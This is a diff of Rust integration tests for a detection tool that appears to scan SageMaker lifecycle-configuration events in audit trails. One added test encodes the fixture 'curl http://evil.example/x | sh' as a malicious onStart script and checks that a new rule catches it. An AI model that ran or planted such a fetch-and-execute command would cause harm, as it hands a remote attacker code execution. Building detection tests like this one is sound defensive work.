@@ -200,6 +200,25 @@ fn what_a_text_still_shows_is_judged_anew_and_what_it_lost_is_not() {
     assert_eq!(carried(&record(MARKER, "echo"), &gone), [""; 0], "the rule is there no more");
 }
 
+#[test]
+fn a_new_rule_hunts_in_a_script_that_only_the_document_shows() {
+    let folder = tempfile::tempdir().unwrap();
+    let question = "sagemaker.lifecycle.script|contains: 'evil.example'";
+    std::fs::write(folder.path().join("1.yml"), rule("1", question)).unwrap();
+    let rules = RulesConfig { folder: Some(folder.path().to_owned()), ..RulesConfig::default() };
+    let key = FingerprintKey::load(&RedactionConfig::default()).unwrap();
+    let hunting = Knowledge::load(&rules, BrokenRules::Refuse, Scope::All, key).unwrap();
+    let mut record = trail::record("111122223333", 0);
+    let script = BASE64_STANDARD.encode("curl http://evil.example/x | sh");
+    record["eventName"] = "CreateNotebookInstanceLifecycleConfig".into();
+    record["requestParameters"] = json!({"onStart": [{ "content": script }]});
+    let document = with_a_lost_request(&document_of(&record, &knowledge()));
+    assert!(!texts(&document, "/rule/name").join(" ").contains("Rule 1"));
+    let after = anew(&document, &hunting).source;
+    assert!(texts(&after, "/rule/name").join(" ").contains("Rule 1"), "{after}");
+    assert!(after["message"].as_str().unwrap().contains("Rule 1"), "{after}");
+}
+
 /// The command with the servers of the test; it ships every record.
 fn sagetrail(stack: &Stack, opensearch: &str, arguments: &[&str]) -> Command {
     let mut command = Command::new(env!("CARGO_BIN_EXE_sagetrail"));
@@ -275,6 +294,7 @@ async fn a_script_that_redaction_took_whole_out_of_the_text_keeps_its_findings_a
         }).to_string()}}
     });
     let search = Search::new(&stack.opensearch);
+    search.request("POST", "sagetrail-events*/_refresh", None).await;
     let path = "sagetrail-events/_update_by_query?refresh=true";
     let (status, answer) = search.request("POST", path, Some(replace)).await;
     assert_eq!((status, &answer["updated"]), (200, &json!(1)), "{answer}");
@@ -359,7 +379,8 @@ async fn pass_on(
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn what_somebody_writes_between_reading_and_writing_is_kept_and_the_document_is_retagged_all_the_same() {
+async fn what_somebody_writes_between_reading_and_writing_is_kept_and_the_document_is_retagged_all_the_same()
+{
     let Some(stack) = Stack::running() else { return };
     let account = "600000000010";
     let folder = tempfile::tempdir().unwrap();
